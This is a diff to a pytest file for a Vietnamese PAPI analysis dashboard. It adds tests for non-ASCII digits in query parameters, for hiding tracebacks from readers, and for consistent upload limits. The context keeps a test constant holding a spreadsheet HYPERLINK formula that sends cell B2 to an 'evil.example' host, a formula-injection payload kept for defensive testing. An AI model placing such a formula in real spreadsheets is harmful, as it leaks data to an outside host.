@@ -4,6 +4,7 @@ whose number cannot be read without doubt (issue 19)."""
 import io
 import re
 import shutil
+import tomllib
 import zipfile
 
 import openpyxl
@@ -12,11 +13,15 @@ import pytest
 from docx import Document
 
 from dashboard.widgets import as_plain_text
-from papi_analysis import assignments, charts, store
+from papi_analysis import assignments, charts, limits, store
 from papi_analysis.__main__ import main
 from papi_analysis.export import excel, slug, unique_names
+from papi_analysis.ingest.workbook import MAX_FILE_BYTES, MAX_UNCOMPRESSED_BYTES
+from papi_analysis.limits import megabytes
 from papi_analysis.sanitise import markdown_literal
 from papi_analysis.targets import parse
+from tests.conftest import ROOT
+from tests.test_app import app  # noqa: F401 (a fixture)
 from tests.test_plans import HEADER, ROWS
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Sở Tư pháp")'
@@ -147,3 +152,39 @@ def test_target_numbers_that_cannot_be_read_without_doubt_are_not_understood(phr
 
 def test_markdown_literal_keeps_line_breaks_and_vietnamese():
     assert markdown_literal("Sở Y tế\nhàng 2") == "Sở Y tế  \nhàng 2"
+
+
+def test_a_link_with_digits_that_are_not_ascii_opens_the_default_view(app):  # noqa: F811
+    app.query_params["year"] = "²"  # /?year=%C2%B2: passes str.isdigit(), and int() raised on every page
+    app.query_params["province"] = "٢"
+    app.run()
+    assert not app.exception
+    assert app.session_state.year == 2024 and app.session_state.province == 17
+
+
+def test_a_fault_shows_the_reader_a_sentence_and_the_log_the_traceback(app, monkeypatch, caplog):  # noqa: F811
+    import dashboard.widgets
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("/srv/papi/secret/path.py went wrong")
+    monkeypatch.delenv("PAPI_DEBUG")  # as served: no developer switch
+    monkeypatch.setattr(dashboard.widgets, "estimate_notice", broken)
+    app.run()
+    assert not app.exception
+    assert [e.value for e in app.error] == [
+        "Không hiển thị được trang này do lỗi của chương trình. Lỗi đã được ghi vào nhật ký của máy chủ; "
+        "hãy tải lại trang hoặc báo cho bộ phận công nghệ thông tin."]
+    assert "/srv/papi/secret/path.py" in caplog.text and "Traceback" in caplog.text
+
+
+def test_served_without_error_details_and_with_one_upload_limit_everywhere():
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert config["client"]["showErrorDetails"] == "none"
+    assert config["server"]["maxUploadSize"] == limits.UPLOAD_MB
+    assert megabytes(MAX_FILE_BYTES) == "50 MB" and megabytes(MAX_UNCOMPRESSED_BYTES) == "400 MB"
+    for doc in ("README.md", "docs/operations.md"):
+        content = (ROOT / doc).read_text()
+        assert not re.search(r"\b(52|419) MB", content)
+    limits_table = (ROOT / "docs" / "operations.md").read_text().split("## Limits")[1].split("##")[0]
+    for size in (limits.UPLOAD_MB, limits.UNZIPPED_MB, limits.PLAN_FILE_MB, limits.COMPILATION_CSV_MB):
+        assert f"| {size} MB" in limits_table
